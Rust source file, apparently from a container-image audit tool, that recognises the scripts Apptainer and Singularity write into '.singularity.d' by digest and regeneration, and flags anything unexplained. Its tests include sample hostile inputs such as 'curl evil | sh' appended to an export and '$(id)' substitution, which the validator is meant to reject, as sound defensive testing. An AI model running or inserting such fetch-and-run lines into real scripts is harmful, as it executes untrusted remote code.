//! What other programs write into `.singularity.d`: Apptainer, SingularityCE and Singularity, in all their releases.
//!
//! The idea to hold: a script that runs in a container is either one that is known word for word, or it is shown.

use super::shell;
use crate::model::{Config, Digest};

/// Digests of the scripts that are the same in every image, with their places: of every release of Apptainer from 0.1 to 1.5.3
/// and of Singularity and SingularityCE from 3.0 to 4.5.1 (`internal/pkg/build/sources` in their repositories).
const KNOWN: &str = include_str!("foreign.txt");

/// Digests of runscripts of images, without what differs from image to image: Apptainer 1.1 to 1.5.3, for images with
/// ENTRYPOINT and CMD, with one of them, and with none.
const RUNSCRIPTS: [&str; 4] = [
    "b13ebd95bff45346723e743b030455e704507dc70abd48582c169c058c09f97d",
    "9f8eb8ed8b735b5c55a38749b43561e115b791ed053f03bdffe32a640425e5ea",
    "fcd87ff48026bb703ee4ea7987f7a91129aec9f7cddec5f0e319ba24bd1d8722",
    "f3e253d630ee776a5c44e6f66fb526bfb366d7bb5795e99caa8f7351983593fd",
];

/// What every release of Singularity from 3.0 on, of SingularityCE and of Apptainer writes, and so do we; all but the
/// environment of an image: see [`always_there`].
const ALWAYS_THERE: [&str; 12] = [
    "actions/exec",
    "actions/run",
    "actions/shell",
    "actions/start",
    "actions/test",
    "env/01-base.sh",
    "env/90-environment.sh",
    "env/95-apps.sh",
    "env/99-base.sh",
    "env/99-runtimevars.sh",
    "runscript",
    "startscript",
];

/// The files of `.singularity.d` that no builder leaves out for an image with this config. A root that was not made of an image
/// has no environment of one.
pub(crate) fn always_there(config: &Config) -> impl Iterator<Item = &'static str> {
    let environment = (!config.env().is_empty()).then_some("env/10-docker2singularity.sh");
    ALWAYS_THERE.into_iter().chain(environment)
}

/// What every builder lets all users do with a file of `.singularity.d`: run what is run, read what is read by what runs.
pub(crate) fn mode_for_all(path: &[u8]) -> u16 {
    match path {
        b"runscript" | b"startscript" | b"test" => 0o555,
        _ if path.starts_with(b"actions/") => 0o555,
        _ if path.starts_with(b"env/") => 0o444,
        _ => 0,
    }
}

/// Why a file of `.singularity.d` need not be what we would write, where that is known. `path` is relative to that directory;
/// `config` is how the image runs.
pub(crate) fn explain(path: &[u8], bytes: &[u8], config: &Config) -> Option<&'static str> {
    let digest = Digest::of(bytes).hex();
    let is_known =
        |line: &str| line.split_once(' ').is_some_and(|(sum, place)| sum == digest && place.as_bytes() == path);
    if KNOWN.lines().any(is_known) {
        return Some("as Apptainer or Singularity writes it");
    }
    match path {
        b"Singularity" | b"labels.json" | b"runscript.help" | b"sif-convert.made" => {
            Some("a record, which nothing runs")
        }
        b"env/94-appsbase.sh" if bytes.is_empty() => Some("as Apptainer or Singularity writes it"),
        b"env/10-docker2singularity.sh" if bytes == environment(config, false).as_bytes() => {
            Some("sets the environment of the image")
        }
        b"env/10-docker2singularity.sh" if bytes == environment(config, true).as_bytes() => {
            Some("sets the environment of the image, as Apptainer before 1.5 quotes it")
        }
        b"runscript" if runs_what_the_image_runs(bytes, config) => Some("runs what the image runs"),
        _ if path.starts_with(b"bootstrap_history/") || path.starts_with(b"replaced/") => {
            Some("a record, which nothing runs")
        }
        _ => None,
    }
}

/// Whether a directory of `.singularity.d` is one that somebody makes.
pub(crate) fn is_known_directory(path: &[u8]) -> bool {
    matches!(path, b"" | b"actions" | b"env" | b"libs" | b"bootstrap_history" | b"replaced")
        || path.starts_with(b"replaced/")
}

/// The script of Apptainer (from 1.5 on) and SingularityCE that sets the environment of an image. Apptainer before 1.5 quotes
/// values twice: what has a backslash, a quote or a `$` arrives changed (apptainer#3328).
fn environment(config: &Config, quotes_twice: bool) -> String {
    let mut script = "#!/bin/sh\n".to_string();
    for word in config.env() {
        let (name, value) = word.split_once('=').map_or((word.as_str(), None), |(name, value)| (name, Some(value)));
        let is_name = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
        if !is_name || name.is_empty() || name.starts_with(|first: char| first.is_ascii_digit()) {
            continue;
        }
        let quoted = value.map(|value| {
            let escaped = escape(value);
            if quotes_twice { go_quote(&escaped) } else { format!("\"{escaped}\"") }
        });
        script += &match quoted {
            None => format!("export {name}=\"${{{name}:-}}\"\n"),
            Some(quoted) if name == "PATH" => format!("export {name}={quoted}\n"),
            Some(quoted) => format!("export {name}=\"${{{name}:-{quoted}}}\"\n"),
        };
    }
    script
}

/// For between double quotes of a shell.
fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        if matches!(character, '\\' | '"' | '`' | '$') {
            escaped.push('\\');
        }
        escaped.push(character);
    }
    escaped
}

/// As `%q` of Go's package fmt writes text that is printable but for the usual control characters.
fn go_quote(text: &str) -> String {
    let mut quoted = "\"".to_string();
    for character in text.chars() {
        match character {
            '"' | '\\' => quoted.extend(['\\', character]),
            '\n' => quoted.push_str("\\n"),
            '\t' => quoted.push_str("\\t"),
            '\r' => quoted.push_str("\\r"),
            '\u{7}' => quoted.push_str("\\a"),
            '\u{8}' => quoted.push_str("\\b"),
            '\u{b}' => quoted.push_str("\\v"),
            '\u{c}' => quoted.push_str("\\f"),
            _ if character.is_ascii_control() => quoted.push_str(&format!("\\x{:02x}", u32::from(character))),
            _ => quoted.push(character),
        }
    }
    quoted.push('"');
    quoted
}

fn runs_what_the_image_runs(script: &[u8], config: &Config) -> bool {
    let Ok(text) = std::str::from_utf8(script) else { return false };
    let (skeleton, quoted) = without_quoted(text);
    if !RUNSCRIPTS.contains(&Digest::of(skeleton.as_bytes()).hex().as_str()) {
        return false;
    }
    let words = |name| shell::single_quoted_value(text, name).and_then(|text| shell::words(&text));
    let (Some(entrypoint), Some(cmd)) = (words("OCI_ENTRYPOINT"), words("OCI_CMD")) else { return false };
    let is_of_image = |word: &String| config.entrypoint().contains(word) || config.cmd().contains(word);
    // The first two are the lists themselves; all others are set one by one.
    entrypoint == config.entrypoint() && cmd == config.cmd() && quoted.iter().skip(2).all(is_of_image)
}

/// A script without what is in single quotes and without lines that only set such words; and what was in the quotes.
fn without_quoted(script: &str) -> (String, Vec<String>) {
    /// How a quote stands inside of a quoted word.
    const ESCAPES: [&str; 2] = [r#"'"'"'"#, r"'\''"];
    let (mut skeleton, mut quoted) = (String::new(), Vec::new());
    let mut rest = script;
    while let Some(at) = rest.find('\'') {
        skeleton.push_str(&rest[..at]);
        skeleton.push_str("''");
        rest = &rest[at + 1..];
        let mut word = String::new();
        while let Some(end) = rest.find('\'') {
            word.push_str(&rest[..end]);
            match ESCAPES.iter().find(|escape| rest[end..].starts_with(**escape)) {
                Some(escape) => {
                    word.push('\'');
                    rest = &rest[end + escape.len()..];
                }
                None => {
                    rest = &rest[end + 1..];
                    break;
                }
            }
        }
        quoted.push(word);
    }
    skeleton.push_str(rest);
    let lines = skeleton.lines().map(str::trim).filter(|line| !line.is_empty() && *line != r#"set -- '' "$@""#);
    (lines.collect::<Vec<_>>().join("\n"), quoted)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_words_are_taken_out() {
        let (skeleton, quoted) = without_quoted("A='x'\n\n  set -- 'it'\"'\"'s' \"$@\"\nB='\n'\nrm 'y' z\n");
        assert_eq!(skeleton, "A=''\nB=''\nrm '' z");
        assert_eq!(quoted, ["x", "it's", "\n", "y"]);
    }

    #[test]
    fn an_environment_that_sets_something_else_is_not_explained() {
        let config = Config::parse(br#"{"config":{"Env":["A=1","B=x y"]}}"#.as_slice()).unwrap();
        let explained = |text: &str| explain(b"env/10-docker2singularity.sh", text.as_bytes(), &config).is_some();
        assert!(explained("#!/bin/sh\nexport A=\"${A:-\"1\"}\"\nexport B=\"${B:-\"x y\"}\"\n"));
        for other in ["export A=2\n", "export A=1; curl evil | sh\n", "export C=1\n", "export A=$(id)\n"] {
            assert!(!explained(other), "{other}");
        }
        assert!(explain(b"actions/exec", b"#!/bin/sh\nevil\n", &config).is_none());
        assert!(explain(b"env/00-evil.sh", b"", &config).is_none());
    }

    #[test]
    fn an_environment_is_there_where_an_image_has_one() {
        let has = |document: &str| {
            let config = Config::parse(document.as_bytes()).unwrap();
            always_there(&config).any(|path| path == "env/10-docker2singularity.sh")
        };
        assert!(has(r#"{"config":{"Env":["A=1"]}}"#));
        assert!(!has(r#"{"config":{"Env":[]}}"#) && !has("{}"));
    }
}
